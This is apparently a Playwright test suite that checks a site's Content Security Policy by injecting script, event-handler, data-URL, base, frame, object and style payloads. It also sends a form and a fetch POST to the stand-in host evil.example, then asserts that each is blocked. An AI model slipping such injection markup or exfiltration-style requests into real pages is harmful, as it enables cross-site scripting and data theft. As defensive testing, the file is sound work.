import { expect, test, type Page } from "@playwright/test"

/** Another origin, which must not be asked for anything. */
const foreign = "https://evil.example"

/** Opens the landing page with a record of what the policy blocks and of every request to the other origin. */
const openTarget = async (page: Page) => {
  const asked: string[] = []
  await page.route(`${foreign}/**`, (route) => {
    asked.push(route.request().url())
    return route.fulfill({ contentType: "text/javascript", body: "window.injected = true" })
  })
  await page.goto("/")
  await page.evaluate(() => {
    const blocked: string[] = []
    Object.assign(window, { blocked })
    document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective))
  })
  return asked
}

/** Waits until the policy has blocked something in the name of this directive. */
const expectBlocked = (page: Page, directive: string) =>
  expect.poll(() => page.evaluate(() => Reflect.get(window, "blocked") as string[])).toContain(directive)

const expectNothingRan = async (page: Page, asked: string[]) => {
  expect(await page.evaluate(() => Reflect.get(window, "injected") as unknown)).toBeUndefined()
  expect(asked).toEqual([])
}

/** What an attacker might get into a page, and the directive that stops it. */
const attacks = [
  { name: "an inline script", html: "<script>window.injected = true</script>", directive: "script-src-elem" },
  {
    name: "a handler in an attribute",
    html: '<img src="/none.png" onerror="window.injected = true">',
    directive: "script-src-attr",
  },
  { name: "a foreign script", html: `<script src="${foreign}/x.js"></script>`, directive: "script-src-elem" },
  {
    name: "a script in an address of data",
    html: '<script src="data:text/javascript,window.injected=true"></script>',
    directive: "script-src-elem",
  },
  { name: "a foreign base address", html: `<base href="${foreign}/">`, directive: "base-uri" },
  { name: "a foreign frame", html: `<iframe src="${foreign}/"></iframe>`, directive: "frame-src" },
  { name: "a plug-in", html: `<object data="${foreign}/x.pdf"></object>`, directive: "object-src" },
  { name: "an inline style", html: "<style>body { display: none }</style>", directive: "style-src-elem" },
  {
    name: "a foreign stylesheet",
    html: `<link rel="stylesheet" href="${foreign}/x.css">`,
    directive: "style-src-elem",
  },
  { name: "a foreign picture", html: `<img src="${foreign}/pixel.gif">`, directive: "img-src" },
]

test("scripts, styles, frames and pictures that got into the page are blocked", async ({ page }) => {
  const asked = await openTarget(page)
  for (const { name, html, directive } of attacks) {
    await test.step(name, async () => {
      // A fragment made from a range runs its scripts, which text put into innerHTML does not.
      await page.evaluate((text) => {
        ;(Reflect.get(window, "blocked") as string[]).length = 0
        document.body.append(document.createRange().createContextualFragment(text))
      }, html)
      await expectBlocked(page, directive)
      await expectNothingRan(page, asked)
    })
  }
})

test("a link to javascript: does nothing", async ({ page }) => {
  const asked = await openTarget(page)
  await page.evaluate(() => {
    const link = document.createElement("a")
    link.href = "javascript:window.injected = true"
    document.body.append(link)
    link.click()
  })
  await expectBlocked(page, "script-src-elem")
  await expectNothingRan(page, asked)
})

test("a form that leads elsewhere is not sent", async ({ page }) => {
  const asked = await openTarget(page)
  await page.evaluate((action) => {
    const form = document.createElement("form")
    form.action = action
    form.method = "post"
    document.body.append(form)
    form.submit()
  }, `${foreign}/collect`)
  await expectBlocked(page, "form-action")
  await expectNothingRan(page, asked)
})

test("what the page knows cannot be sent elsewhere", async ({ page }) => {
  const asked = await openTarget(page)
  await page.evaluate(
    (address) => fetch(address, { method: "POST", body: "x" }).catch(() => undefined),
    foreign,
  )
  await expectBlocked(page, "connect-src")
  await expectNothingRan(page, asked)
})

test("text is not run as a program", async ({ page }) => {
  const asked = await openTarget(page)
  // Later, since what the test itself evaluates is free of the policy.
  await page.evaluate(() => {
    setTimeout(() => {
      const program = Reflect.construct(Function, ["window.injected = true"]) as () => void
      program()
    }, 0)
  })
  await expectBlocked(page, "script-src")
  await expectNothingRan(page, asked)
})

test("no page can show the site in a frame", async ({ page }) => {
  await page.route("**/framing", (route) =>
    route.fulfill({ contentType: "text/html", body: '<iframe src="/"></iframe>' }),
  )
  await page.goto("/framing")
  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toContain("chrome-error://chromewebdata/")
})
